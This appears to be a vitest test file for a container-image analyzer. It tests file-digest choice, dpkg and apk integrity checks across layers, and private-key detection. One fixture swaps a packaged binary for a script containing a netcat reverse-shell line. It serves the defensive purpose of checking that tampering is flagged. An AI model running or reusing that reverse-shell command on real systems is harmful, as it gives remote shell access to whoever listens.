// The content engine hashes only what a check can use: MD5 where a package may own the file, and the
// image-level checks treat a file without one as unchecked, never as a mismatch or as packaged.
import { createHash, generateKeyPairSync } from "node:crypto";
import { describe, expect, it } from "vitest";
import { analyzeLayer } from "../../../shared/analysis/analyze-layer.js";
import { contentAnalyzers } from "../../../shared/analysis/content/index.js";
import { fileDigests, LayerMarks, mayBePackaged } from "../../../shared/analysis/content/file-digests.js";
import { squashLayers } from "../../../shared/analysis/squash.js";
import { type ContentFact, ContentFactSchema } from "../../../shared/model/content.js";
import { DEFAULT_LIMITS } from "../../../shared/model/limits.js";
import { type Entry, layerBlob, streamOf } from "../layers.js";

const md5 = (s: string | Buffer) => createHash("md5").update(s).digest("hex");

async function analyse(entries: Entry[], earlier: Entry[][] = []) {
  const analyzers = contentAnalyzers(undefined);
  const reports = [];
  for (const layer of [...earlier, entries]) {
    const blob = await layerBlob(layer);
    reports.push(await analyzeLayer(streamOf(blob.bytes), blob.ref, { analyzers, limits: DEFAULT_LIMITS }));
  }
  const report = reports.at(-1)!;
  const fact: ContentFact = ContentFactSchema.parse(squashLayers(reports, { analyzers }).facts.content);
  const fileData = (path: string) =>
    (
      report.files.find((f) => f.path === path)?.output.data as
        | { kind: string; md5?: string; sha256?: string; sha1?: string }[]
        | undefined
    )?.[0];
  return { fact, fileData, layer: report.digest };
}

describe("file digests", () => {
  it("names the places no package installs in, and only those", () => {
    for (const p of [
      "usr/local/bin/node",
      "usr/local/lib/python3.12/site-packages/x.py",
      "home/app/.bashrc",
      "root/.ssh/authorized_keys",
      "srv/web/index.js",
      "var/cache/apt/pkgcache.bin",
      "var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages",
      "tmp/x",
    ])
      expect(mayBePackaged(p)).toBe(false);
    for (const p of ["usr/bin/ls", "usr/localized/x", "etc/passwd", "opt/google/chrome/chrome", "var/lib/x"])
      expect(mayBePackaged(p)).toBe(true);
  });

  it("takes MD5 where a package may own the file and SHA-256 + SHA-1 only for a finding's subject", () => {
    const content = Buffer.from("hello\n");
    expect(fileDigests("usr/bin/x", content, false)).toEqual({ md5: md5(content) });
    expect(fileDigests("usr/local/bin/x", content, false)).toEqual({});
    expect(fileDigests("usr/local/bin/x", content, true)).toEqual({
      sha256: createHash("sha256").update(content).digest("hex"),
      sha1: createHash("sha1").update(content).digest("hex"),
    });
  });

  it("says so when a package lists an unhashed file, and still reports a secret there", async () => {
    const key = generateKeyPairSync("ed25519").privateKey.export({ type: "pkcs8", format: "pem" }).toString();
    const tool = "#!/bin/sh\necho tool\n";
    const { fact, fileData } = await analyse([
      { name: "usr/local/bin/tool", content: tool },
      { name: "usr/bin/tool2", content: tool },
      { name: "srv/app/key.pem", content: key },
      // a (third-party) package that lists a file in usr/local, with its right MD5
      {
        name: "var/lib/dpkg/info/thirdparty.md5sums",
        content: `${md5(tool)}  usr/local/bin/tool\n${md5("other")}  usr/bin/tool2\n`,
      },
    ]);
    expect(fileData("usr/local/bin/tool")?.md5).toBeUndefined();
    expect(fileData("usr/bin/tool2")?.md5).toBe(md5(tool));
    // the unhashed file is neither a mismatch nor silently passed; the hashed one is checked
    expect(fact.findings.map((f) => [f.rule, f.path])).toEqual([
      ["integrity/dpkg-md5sums", "/usr/bin/tool2"],
      ["secret/private-key", "/srv/app/key.pem"],
    ]);
    expect(fact.warnings).toEqual([
      expect.objectContaining({
        code: "content-integrity-unhashed",
        message: expect.stringContaining("/usr/local/bin/tool"),
      }),
    ]);
  });

  describe("a layer's package-manager marks", () => {
    const tool = "#!/bin/sh\necho tool\n";
    const sha1 = (s: string) => createHash("sha1").update(s).digest("hex");

    it("leave out apk's SHA-1 after dpkg's marks alone; keep MD5 and the SHA-256 evidence", async () => {
      const marks = new LayerMarks();
      expect(marks.dpkgOnly).toBe(false);
      marks.see("etc/dpkg/dpkg.cfg");
      expect(marks.dpkgOnly).toBe(true);
      marks.see("etc/apk/repositories");
      expect(marks.dpkgOnly).toBe(false);
      expect(fileDigests("usr/bin/x", Buffer.from(tool), true, true)).toEqual({
        md5: md5(tool),
        sha256: createHash("sha256").update(tool).digest("hex"),
      });

      const { fileData } = await analyse([
        { name: "bin/early", content: tool },
        { name: "etc/dpkg/dpkg.cfg", content: "no-debsig\n" },
        { name: "usr/bin/tool", content: tool },
      ]);
      // before the mark, every digest; after it, no SHA-1
      expect(fileData("bin/early")?.sha1).toBe(sha1(tool));
      expect(fileData("usr/bin/tool")).toMatchObject({ md5: md5(tool), sha256: expect.any(String) });
      expect(fileData("usr/bin/tool")?.sha1).toBeUndefined();
      // a layer that shows two managers' marks keeps every digest
      const both = await analyse([
        { name: "etc/apk/repositories", content: "x\n" },
        { name: "etc/dpkg/dpkg.cfg", content: "no-debsig\n" },
        { name: "usr/bin/tool", content: tool },
      ]);
      expect(both.fileData("usr/bin/tool")?.sha1).toBe(sha1(tool));
    });

    it("still catch a packaged file tampered with in a later layer, with or without dpkg's marks", async () => {
      const base: Entry[] = [
        { name: "etc/dpkg/dpkg.cfg", content: "no-debsig\n" },
        { name: "usr/bin/tool", content: tool },
        { name: "var/lib/dpkg/info/tool.md5sums", content: `${md5(tool)}  usr/bin/tool\n` },
      ];
      const evil = "#!/bin/sh\necho not the packaged tool\n";
      for (const later of [
        [{ name: "usr/bin/tool", content: evil }],
        [
          { name: "etc/dpkg/dpkg.cfg.d/local", content: "x\n" },
          { name: "usr/bin/tool", content: evil },
        ],
      ]) {
        const { fact, layer } = await analyse(later, [base]);
        expect(fact.findings.map((f) => [f.rule, f.path, f.layer])).toEqual([
          ["integrity/dpkg-md5sums", "/usr/bin/tool", layer],
        ]);
        expect(fact.findings[0]!.sha256).toBe(createHash("sha256").update(evil).digest("hex"));
      }
    });

    it("count, never pass, an apk file replaced in a layer that shows dpkg's marks first", async () => {
      const apkDb = `P:tool\nV:1.0-r0\nF:usr/bin\nR:tool\nZ:Q1${createHash("sha1").update(tool).digest("base64")}\n`;
      const base: Entry[] = [
        { name: "lib/apk/db/installed", content: apkDb },
        { name: "usr/bin/tool", content: tool },
      ];
      const { fact } = await analyse(
        [
          { name: "etc/dpkg/dpkg.cfg", content: "no-debsig\n" },
          { name: "usr/bin/tool", content: "#!/bin/sh\nnc -e /bin/sh 127.0.0.1 4444\n" },
        ],
        [base],
      );
      expect(fact.findings.filter((f) => f.category === "integrity")).toEqual([]);
      expect(fact.warnings).toEqual([
        expect.objectContaining({
          code: "integrity-unverified",
          message: expect.stringContaining("1 file it lists was not hashed in its digest algorithm"),
        }),
      ]);
    });
  });
});
